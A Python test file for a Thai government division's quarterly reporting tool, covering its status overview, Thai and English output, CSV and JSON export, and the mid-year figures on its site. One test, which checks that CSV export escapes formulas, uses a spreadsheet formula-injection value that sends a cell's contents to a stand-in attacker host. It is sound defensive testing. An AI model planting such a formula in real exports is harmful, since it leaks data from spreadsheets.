"""render/overview.py and commands/status.py: the quarter overview (reportgen status, and /_status in the preview), and honest mid-year
figures on the site, for a division half-way through fiscal year 2569 (quarter 2 ended 31 March 2026)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re

import pytest
import yaml
from linebreaks import unmark
from projects import real_indicator, run_reportgen, write_project

from reportgen.commands.signoff import signoff
from reportgen.content.project import load_project
from reportgen.render.overview import overview_of
from reportgen.standing import Reporting

TODAY = dt.date(2026, 4, 15)  # fiscal year 2569, quarter 3: quarter 2 has ended
EPOCH = str(int(dt.datetime(2026, 4, 15, 12, tzinfo=dt.UTC).timestamp()))
OFFICER_A = {"name": "นางสาวสมใจ ใฝ่รู้", "position": "บรรณารักษ์ชำนาญการ", "contact": "somjai@example.go.th"}
OFFICER_B = {"name": "นายสมชาย ขยันดี", "position": "นักวิชาการวัฒนธรรม", "contact": "โทร 1234"}


def form(code: str, quarters: dict, **extra) -> dict:
    data = real_indicator() | {"fiscal_year": 2569, "code": code, "quarters": quarters, **extra}
    data.pop("result")
    return data


def q(result) -> dict:
    return {"report": "ดำเนินการตามแผน", "result": result}


def division_files() -> dict:
    return {
        "indicators/2569/01.yaml": form("01", {"q1": q(2), "q2": q(5)}, officer=OFFICER_A,
                                        target={"value": 10, "unit": "ห้อง", "plan": {"q1": 2, "q2": 4, "q3": 7,
                                                                                       "q4": 10}}),
        "indicators/2569/02.yaml": form("02", {"q1": q(1)}, officer=OFFICER_A,
                                        target={"value": 10, "unit": "ห้อง", "plan": {"q1": 3}}),
        "indicators/2569/03.yaml": form("03", {"q1": q(1), "q2": q(2)}, officer=OFFICER_B),
        "indicators/2569/04.yaml": form("04", {"q1": q(3), "q2": q(12)}, name="จำนวนเรื่องร้องเรียน",
                                        target={"value": 20, "unit": "เรื่อง", "direction": "at_most",
                                                "plan": {"q2": 10}}),
    }


@pytest.fixture
def division(tmp_path):
    root = write_project(tmp_path / "division", division_files())
    for code in ("01", "03"):
        signoff(root, root / f"content/indicators/2569/{code}.yaml", name="นางสาวสมใจ ใฝ่รู้", position="บรรณารักษ์",
                date=dt.date(2026, 4, 5))
    edited = root / "content/indicators/2569/03.yaml"
    edited.write_text(edited.read_text(encoding="utf-8").replace("ดำเนินการตามแผน", "ดำเนินการแล้ว", 1), encoding="utf-8")
    return root


def run_status(root, *args):
    result = run_reportgen_env(root, "status", *args)
    assert result.returncode == 0, result.stderr
    return result.stdout


def run_reportgen_env(root, *args, epoch=EPOCH):
    return run_reportgen(*args, cwd=root, env={"SOURCE_DATE_EPOCH": epoch})


def test_the_overview_of_the_last_ended_quarter(division):
    overview = overview_of(load_project(division), today=TODAY)
    assert (overview.fiscal_year, overview.quarter) == (2569, 2)
    assert overview.counts == {"forms": 4, "reported": 3, "missing": 1, "draft": 2, "edited_after_signoff": 1,
                               "signed": 1}
    states = {f.entry.indicator.code: (f.reported, f.sign_state, f.status.status, f.status.plan_status)
              for f in overview.forms}
    assert states == {
        "01": (True, "signed", "in_progress", "on_track"),  # 5 of 10 half-way: not "not met"; plan q2 is 4
        "02": (False, "draft", "in_progress", "behind_plan"),  # stopped after q1 (1 against a plan of 3)
        "03": (True, "edited_after_signoff", "in_progress", None),
        "04": (True, "draft", "in_progress", "behind_plan"),  # a ceiling: 12 complaints against a plan of at most 10
    }


def test_status_prints_thai_per_form_and_per_officer(division):
    text = run_status(division)
    lines = text.splitlines()
    assert lines[0] == "ภาพรวมไตรมาสที่ 2 ปีงบประมาณ 2569 (1 มกราคม 2569 – 31 มีนาคม 2569) ข้อมูล ณ 15 เมษายน 2569"
    assert lines[1] == ("รายงานแล้ว 3 · ยังไม่รายงาน 1 · ฉบับร่าง 2 · แก้ไขหลังลงนาม 1 · ลงนามแล้ว 1"
                        " · จากทั้งหมด 4 แบบรายงาน")
    assert any(line.startswith("2569/02 | ยังไม่รายงาน | ฉบับร่าง | อยู่ระหว่างดำเนินการ (ต่ำกว่าแผน) | นางสาวสมใจ ใฝ่รู้")
               for line in lines), text
    assert any(line.startswith("2569/03 | รายงานแล้ว | แก้ไขหลังลงนาม |") for line in lines), text
    assert any(line.startswith("2569/04 | รายงานแล้ว | ฉบับร่าง | อยู่ระหว่างดำเนินการ (เกินกว่าแผน) |"
                               " (ไม่ได้ระบุผู้รับผิดชอบ)") for line in lines), text
    assert ("นางสาวสมใจ ใฝ่รู้, บรรณารักษ์ชำนาญการ, somjai@example.go.th: 2 แบบรายงาน ยังไม่รายงาน 1 (02)"
            " ยังไม่ลงนาม 1 (02)") in lines


def test_status_in_english(division):
    text = run_status(division, "--lang", "en")
    assert text.startswith("Overview of quarter 2 of fiscal year 2569 (2026-01-01 – 2026-03-31), as of 2026-04-15")
    assert "2569/02 | missing | draft | in progress" in text
    assert "reported 3 · missing 1 · draft 2 · edited after sign-off 1 · signed 1 · of 4 forms" in text


def test_status_csv_and_json_for_the_spreadsheet(division):
    rows = list(csv.DictReader(io.StringIO(run_status(division, "--format", "csv").lstrip("\ufeff"))))
    assert [(r["code"], r["reported"], r["sign_state"], r["officer_name"]) for r in rows] == [
        ("01", "yes", "signed", "นางสาวสมใจ ใฝ่รู้"), ("02", "no", "draft", "นางสาวสมใจ ใฝ่รู้"),
        ("03", "yes", "edited_after_signoff", "นายสมชาย ขยันดี"), ("04", "yes", "draft", "")]
    assert rows[0]["quarter"] == "2" and rows[0]["status"] == "in_progress" and rows[0]["plan_status"] == "on_track"
    document = json.loads(run_status(division, "--format", "json"))
    assert document["counts"]["missing"] == 1 and document["quarter_end"] == "2026-03-31"
    assert document["forms"][1]["reported"] is False and document["forms"][2]["officer_contact"] == "โทร 1234"


def test_status_csv_neutralises_formulas_in_what_officers_type(tmp_path):
    """Names, positions, contacts and indicator names are typed by anyone: in the director's spreadsheet none of
    them may run as a formula (=HYPERLINK, @SUM, +66 …); numbers stay numbers."""
    from reportgen.render.overview import format_overview

    hostile = {"name": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "position": "@SUM(A1:A9)",
               "contact": "+66 2 123 4567"}
    root = write_project(tmp_path / "p", {"indicators/2569/01.yaml": form(
        "01", {"q1": q(2), "q2": q(5)}, officer=hostile, name="-ห้องสมุดมีชีวิต")})
    text = format_overview(overview_of(load_project(root), today=TODAY), fmt="csv")
    (row,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    assert row["officer_name"] == "'" + hostile["name"]
    assert (row["officer_position"], row["officer_contact"]) == ("'@SUM(A1:A9)", "'+66 2 123 4567")
    assert row["name"] == "'-ห้องสมุดมีชีวิต"
    assert (row["fiscal_year"], row["quarter"], row["result"]) == ("2569", "2", "5")


def test_status_of_another_quarter_and_of_the_running_one(division):
    text = run_status(division, "--year", "2569", "--quarter", "q1")
    assert "รายงานแล้ว 4 · ยังไม่รายงาน 0" in text
    running = run_status(division, "--year", "2569", "--quarter", "q3").splitlines()  # 15 April: quarter 3 runs
    assert running[0] == ("ภาพรวมไตรมาสที่ 3 ปีงบประมาณ 2569 (1 เมษายน 2569 – 30 มิถุนายน 2569)"
                          " ไตรมาสปัจจุบัน (ยังไม่สิ้นสุด) สิ้นสุด 30 มิถุนายน 2569 ข้อมูล ณ 15 เมษายน 2569")
    assert running[1].startswith("รายงานแล้ว 0 · ยังไม่รายงาน 4")
    english = run_status(division, "--year", "2569", "--quarter", "q3", "--lang", "en")
    assert english.startswith("Overview of quarter 3 of fiscal year 2569 (2026-04-01 – 2026-06-30), the current"
                              " quarter (not over yet, it ends 2026-06-30), as of 2026-04-15") and "ยัง" not in english
    future = run_status(division, "--year", "2569", "--quarter", "q4").splitlines()[0]
    assert future == ("ภาพรวมไตรมาสที่ 4 ปีงบประมาณ 2569 (1 กรกฎาคม 2569 – 30 กันยายน 2569) ยังไม่เริ่ม"
                      " ข้อมูล ณ 15 เมษายน 2569")
    assert json.loads(run_status(division, "--quarter", "q3", "--format", "json"))["quarter_state"] == "running"


def test_every_date_in_a_thai_status_line_is_a_thai_date(division):
    for args in ((), ("--year", "2569", "--quarter", "q3"), ("--year", "2569", "--quarter", "q4")):
        text = run_status(division, *args)
        assert not re.search(r"\d{4}-\d{2}-\d{2}", text), text


def test_status_shows_the_running_quarter_once_a_form_has_reported_it(division):
    assert run_status(division).startswith("ภาพรวมไตรมาสที่ 2 ปีงบประมาณ 2569")  # nobody has written q3 yet
    first = division / "content/indicators/2569/01.yaml"
    data = yaml.safe_load(first.read_text(encoding="utf-8"))
    data["quarters"]["q3"] = q(6)
    first.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    lines = run_status(division).splitlines()
    assert lines[0].startswith("ภาพรวมไตรมาสที่ 3 ปีงบประมาณ 2569 (1 เมษายน 2569 – 30 มิถุนายน 2569)"
                               " ไตรมาสปัจจุบัน (ยังไม่สิ้นสุด) สิ้นสุด 30 มิถุนายน 2569")
    assert lines[1].startswith("รายงานแล้ว 1 · ยังไม่รายงาน 3")


def test_in_december_the_coordinator_sees_who_has_written_quarter_1(tmp_path):
    """The issue's case: fiscal year 2570 began on 1 October 2026; in December one form has its q1 report."""
    files = {"indicators/2569/01.yaml": form("01", {"q1": q(1), "q2": q(2), "q3": q(3), "q4": q(4)}),
             "indicators/2570/01.yaml": form("01", {"q1": q(1)}) | {"fiscal_year": 2570},
             "indicators/2570/02.yaml": form("02", {}) | {"fiscal_year": 2570}}
    root = write_project(tmp_path / "december", files)
    december = str(int(dt.datetime(2026, 12, 7, 12, tzinfo=dt.UTC).timestamp()))
    result = run_reportgen_env(root, "status", epoch=december)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == ("ภาพรวมไตรมาสที่ 1 ปีงบประมาณ 2570 (1 ตุลาคม 2569 – 31 ธันวาคม 2569)"
                        " ไตรมาสปัจจุบัน (ยังไม่สิ้นสุด) สิ้นสุด 31 ธันวาคม 2569 ข้อมูล ณ 7 ธันวาคม 2569")
    assert lines[1].startswith("รายงานแล้ว 1 · ยังไม่รายงาน 1")
    asked = run_reportgen_env(root, "status", "--year", "2570", "--quarter", "q1", epoch=december)
    assert asked.returncode == 0 and asked.stdout == result.stdout
    last_year = run_reportgen_env(root, "status", "--year", "2569", epoch=december)
    assert last_year.stdout.startswith("ภาพรวมไตรมาสที่ 4 ปีงบประมาณ 2569")


def test_the_year_page_tells_the_truth_mid_year(division):
    from reportgen.publish.options import BuildRequest
    from reportgen.publish.pipeline import build

    build(division, BuildRequest(jobs=1, reporting=Reporting(TODAY)))
    page = (division / "output/html/2569/index.html").read_text(encoding="utf-8")
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page))
    assert "ข้อมูล ณ 31 มีนาคม 2569 (สิ้นไตรมาสที่ 2)" in text
    assert "3 จาก 4 ตัวชี้วัด รายงานผลไตรมาสที่ 2 แล้ว" in text  # 02 missed quarter 2
    assert "4 ตัวชี้วัด อยู่ระหว่างดำเนินการ" in text
    assert "ยังไม่บรรลุเป้าหมาย" not in text  # the year has not ended: nothing is "not met" yet
    assert "ในจำนวนนี้ 3 แบบรายงานยังเป็นฉบับร่าง" in text  # 02, 04 and 03, edited after its sign-off
    rows = dict(re.findall(r'<tr id="indicator-(\w+)">(.*?)</tr>', page, re.S))
    assert "เป็นไปตามแผน (แผน 4 ห้อง)" in rows["01"] and "ฉบับร่าง" not in rows["01"]
    assert "ยังไม่รายงาน ไตรมาสที่ 2" in rows["02"] and "ฉบับร่าง" in rows["02"]
    assert "ฉบับร่าง" in rows["03"]  # its sign-off was given to an earlier text
    assert "เกินกว่าแผน (แผน 10 เรื่อง)" in rows["04"]
    chart = re.search(r"<title[^>]*>([^<]*)</title>", page[page.index("<svg"):]).group(1)
    assert "ข้อมูล ณ 31 มีนาคม 2569 (สิ้นไตรมาสที่ 2)" in chart
    indicator_page = (division / "output/html/2569/02.html").read_text(encoding="utf-8")
    assert "ข้อมูล ณ 31 มีนาคม 2569" in indicator_page and "somjai" not in indicator_page  # officers stay internal
    data = (division / "output/html/data/indicators.csv").read_text(encoding="utf-8-sig")
    assert ",in_progress," in data and ",not_met," not in data and "somjai" not in data


def test_officers_are_shown_on_the_site_only_when_site_yaml_says_so(tmp_path):
    from projects import real_site

    from reportgen.publish.options import BuildRequest
    from reportgen.publish.pipeline import build

    root = write_project(tmp_path / "p", division_files(), site=real_site() | {"show_officers": True})
    build(root, BuildRequest(jobs=1, reporting=Reporting(TODAY)))
    page = (root / "output/html/2569/01.html").read_text(encoding="utf-8")
    assert "ผู้รับผิดชอบ: นางสาวสมใจ ใฝ่รู้ บรรณารักษ์ชำนาญการ · ติดต่อ somjai@example.go.th" in page


def test_the_preview_serves_the_overview_as_a_page(division, monkeypatch, tmp_path):
    import urllib.request

    from reportgen.preview.server import PreviewServer

    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    server = PreviewServer(division, port=0, quiet_period=0.1)
    server.start()
    try:
        assert server.wait_for_generation(1, 120)
        with urllib.request.urlopen(server.url + "_status", timeout=30) as response:
            page = response.read().decode("utf-8")
        assert not (server.html_dir / "_status").exists() and "_status" not in os.listdir(server.html_dir)
    finally:
        server.stop()
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", unmark(page)))  # headings marked for line breaks
    assert "ภาพรวมไตรมาสที่ 2 ปีงบประมาณ พ.ศ. 2569" in text and "ไม่เผยแพร่บนเว็บไซต์" in text
    assert "somjai@example.go.th" in text and "แก้ไขหลังลงนาม" in text and "ยังไม่รายงาน" in text


def test_a_broken_file_is_listed_and_does_not_hide_the_others(division):
    (division / "content/indicators/2569/05.yaml").write_text("code: '05'\nname: [\n", encoding="utf-8")
    lines = run_status(division).splitlines()
    assert lines[1].startswith("รายงานแล้ว 3 · ยังไม่รายงาน 1")  # the four readable forms, as before
    assert "2569/05 | มีข้อผิดพลาด 1 รายการ จึงไม่ได้นับ (ตรวจด้วย reportgen check) | content/indicators/2569/05.yaml" \
        in lines
    document = json.loads(run_status(division, "--format", "json"))
    assert [item["file"] for item in document["broken"]] == ["content/indicators/2569/05.yaml"]
